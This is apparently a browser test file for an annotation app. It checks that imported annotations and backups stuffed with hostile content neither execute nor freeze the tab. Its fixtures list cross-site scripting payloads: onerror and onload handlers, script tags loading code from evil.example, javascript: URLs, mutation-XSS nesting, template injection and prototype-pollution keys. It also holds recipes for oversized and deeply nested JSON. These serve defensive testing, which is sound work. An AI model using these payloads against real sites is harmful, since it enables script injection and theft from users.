// Hostile annotations and backups in real browsers: nothing runs, nothing is asked for, the tab lives, and a refusal says why.
import assert from "node:assert/strict";
import { watch } from "./harness/hostile.mjs";
import { journey } from "./harness/journey.mjs";
import { annotate, everythingStored, notes, opened, settled } from "./harness/manchette.mjs";
import { ALL, sealed } from "./harness/storage.mjs";

const FAR = "https://evil.example/";
/** Texts that would run or ask for something, if anything made elements of them. */
const MARKUP = [
  `<img src=x onerror=pwned()>`,
  `<script>pwned()</script>`,
  `<script src="${FAR}s.js"></script>`,
  `"><svg onload=pwned()>`,
  `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">`,
  `<style>@import "${FAR}a.css"; * { background: url(${FAR}b) }</style>`,
  `<a href="javascript:pwned()">ici</a> [ici](javascript:pwned()) ![x](${FAR}i.png)`,
  `<template><img src=${FAR}t></template><link rel=stylesheet href=${FAR}l.css>`,
  "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %>",
  "\u202Egpj.exe \u0000\u0007 \uFEFF \u{1F469}\u200D\u{1F4BB}",
];
const ADDRESSES = ["javascript:pwned()", "JaVa\tScRiPt:pwned()", `${FAR}x`, "data:text/html,<script>pwned()</script>", "//evil.example/x", "\\\\evil.example\\x"];

/** An annotation whose every member that a reader could follow, draw or run holds something hostile. */
const annotation = (i) => {
  const words = MARKUP[i % MARKUP.length];
  const address = ADDRESSES[i % ADDRESSES.length];
  return {
    "@context": ["http://www.w3.org/ns/anno.jsonld", `${FAR}context.jsonld`, { "@import": `${FAR}more.jsonld` }],
    id: i % 2 ? `${address}#${i}` : `urn:hostile:${i}`,
    type: "Annotation",
    motivation: ["commenting", words],
    creator: { id: address, type: "Person", name: words, homepage: address },
    generator: { id: address, name: words },
    stylesheet: { type: "CssStylesheet", id: `${FAR}style.css`, value: `* { background: url(${FAR}c) }` },
    rights: address,
    canonical: address,
    via: address,
    "__proto__": { polluted: true },
    constructor: { prototype: { polluted: true } },
    body: [
      { type: "TextualBody", value: words, format: "text/html", purpose: "commenting" },
      { type: "TextualBody", value: `<b onclick=pwned()>${i}</b>`, purpose: "tagging" },
      { type: "SpecificResource", source: address, selector: { type: "FragmentSelector", value: `xpointer(${words})`, conformsTo: address } },
      { type: "Image", id: `${FAR}body.png` },
    ],
    target: {
      source: address,
      styleClass: `x" onmouseover="pwned()`,
      state: { type: "HttpRequestState", value: `Accept: ${words}`, refinedBy: { type: "TimeState", cached: `${FAR}cached` } },
      selector: [
        { type: "TextQuoteSelector", exact: i % 3 ? "Ankara" : words, prefix: words, suffix: words },
        { type: "TextPositionSelector", start: i < 50 ? 3 : 9007199254740991, end: i < 60 ? 9 : 1 },
        { type: "CssSelector", value: `*{background:url(${FAR}d)}` },
        { type: "SvgSelector", value: "<svg onload=pwned()>" },
      ],
    },
  };
};

journey("no hostile annotation runs or asks for anything, and its words are shown as they stand", { engines: ALL }, async (browser, site) => {
  await opened(browser);
  const assertNothingRan = await watch(browser, site);
  const all = Array.from({ length: 66 }, (_, i) => annotation(i));
  const came = await browser.run((text) => manchette.import(text, "jsonld", { partial: true }), JSON.stringify(all));
  assert.equal(came.created + came.rejected.length, all.length);
  assert.ok(came.created >= 40, JSON.stringify(came.rejected.slice(0, 3)));
  assert.ok(came.rejected.every(({ reason }) => reason.length > 10));
  await settled(browser);
  const shown = await browser.run(() => document.body.textContent);
  assert.ok(shown.includes("<img src=x onerror=pwned()>") || shown.includes("<script>pwned()</script>"), "the words stand in the margin");
  assert.equal(await browser.run(() => ({}).polluted), null);
  assert.equal(await browser.run(() => document.querySelectorAll(".m-margin :is(script, iframe, img, a[href], style, [onclick])").length), 0);
  await assertNothingRan();
  const kept = await notes(browser);
  await browser.reload();
  const assertNothingRanAgain = await watch(browser, site);
  await settled(browser);
  assert.deepEqual(await notes(browser), kept);
  await assertNothingRanAgain();
});

/** Files that would stop a program which builds what they describe before looking: [name, recipe, why it is refused]. */
const REFUSED = [
  ["50 MB of brackets", { part: "[", times: 50_000_000 }, /16 M/],
  ["50 MB of annotations", { start: "[", part: '{"type":"Annotation"},', times: 2_300_000, end: "{}]" }, /16 M/],
  ["100 000 levels of lists", { part: "[", times: 100_000 }, /./],
  ["100 000 levels, closed", { start: `{"type":"Annotation","target":`, part: "[", times: 100_000, end: "]".repeat(100_000) + "}" }, /./],
  ["100 000 levels of objects", { part: '{"items":', times: 100_000 }, /./],
  ["5 million empty annotations", { start: "[", part: "{},", times: 5_000_000, end: "{}]" }, /100000/],
  ["a text of 15 MB that never ends", { start: '[{"type":"Annotation","id":"', part: "\\u00e9", times: 2_500_000 }, /./],
  ["a number of 10 MB", { start: '[{"type":"Annotation","id":', part: "9", times: 10_000_000, end: "}]" }, /./],
  ["half a surrogate", { start: '[{"type":"Annotation","id":"', part: "\\ud800", times: 1000, end: '"}]' }, /./],
  ["not JSON", { part: "\u0000", times: 100_000 }, /./],
];

/** Gives each file to `read` in the page; asserts that it is refused with a reason, soon, and that nothing has changed. */
async function assertRefused(browser, read, files) {
  const before = await everythingStored(browser);
  for (const [name, recipe, why] of files) {
    const [message, took] = await browser.run(
      `async ({ start = "", part, times, end = "" }) => {
        const file = start + part.repeat(times) + end;
        const begin = performance.now();
        const message = await (${read})(file).then(() => "was accepted", (e) => e.message);
        return [message, performance.now() - begin];
      }`,
      recipe,
    );
    assert.match(message, why, name);
    assert.match(message, /Rien n’a changé|Nothing changed/, name);
    assert.ok(message.length < 5_000, `${name}: a message of ${message.length} characters`);
    assert.ok(took < 5_000, `${name} was refused after ${Math.round(took)} ms`);
  }
  assert.deepEqual(await everythingStored(browser), before);
}

journey("annotations that would stop the tab are refused, and change nothing", { engines: ALL }, async (browser) => {
  await opened(browser);
  await annotate(browser, "Ankara", { note: "reste" });
  await settled(browser);
  await assertRefused(browser, "(file) => manchette.import(file)", REFUSED);
});

journey("backups that would stop the tab are refused, and change nothing", { engines: ALL }, async (browser) => {
  await opened(browser);
  await annotate(browser, "Ankara", { note: "reste" });
  await settled(browser);
  const start = '{"format":"manchette-backup","schema":1,"items":';
  const files = REFUSED.map(([name, recipe]) => [name, recipe, /./]);
  files.push(["50 MB of brackets inside", { start, part: "[", times: 50_000_000 }, /./], ["a million items", { start: `${start}[`, part: '["n/x/y","1"],\n', times: 1_000_000, end: '["n/x/y","1"]]}' }, /./]);
  await assertRefused(browser, "(file) => manchette.restore(new Blob([file]))", files);
});

journey("no hostile backup runs or asks for anything", { engines: ALL }, async (browser, site) => {
  await opened(browser);
  await annotate(browser, "Ankara", { note: "NOTE" });
  await browser.run(() => manchette.open({ text: "TEXTE de l’article.\nUne fin.", title: "TITRE", source: "https://journal.example/SOURCE" }));
  await annotate(browser, "article", { note: "NOTE", tags: ["ETIQUETTE"] });
  await settled(browser);
  const backup = await browser.run(async () => JSON.parse(await (await manchette.backup()).text()));
  for (const words of MARKUP.slice(0, 8)) {
    // The words inside the stored values give way to hostile ones, as JSON writes them.
    const swap = (value) => value.replace(/NOTE|TITRE|ETIQUETTE|TEXTE/g, () => JSON.stringify(words).slice(1, -1)).replaceAll("https://journal.example/SOURCE", "javascript:pwned()");
    const items = backup.items.map(([key, value]) => [key, swap(value)]);
    items.push(["__proto__", words], ["n/../../x", words], [`a/${words}`, words], ["u", `{"__proto__":{"polluted":true}}`]);
    const text = await sealed(browser, { ...backup, items });
    const assertNothingRan = await watch(browser, site);
    const said = await browser.run((text) => manchette.restore(new Blob([text])).then(() => "restored", (e) => e.message), text);
    assert.ok(said === "restored" || /Rien n’a changé|Nothing changed/.test(said), said);
    await settled(browser);
    const ids = await browser.run(() => manchette.articles().then((all) => all.map(({ id }) => id)));
    for (const id of ids) await browser.run((id) => manchette.open({ id }).catch(() => {}), id);
    await settled(browser);
    assert.equal(await browser.run(() => ({}).polluted), null);
    await assertNothingRan();
  }
});
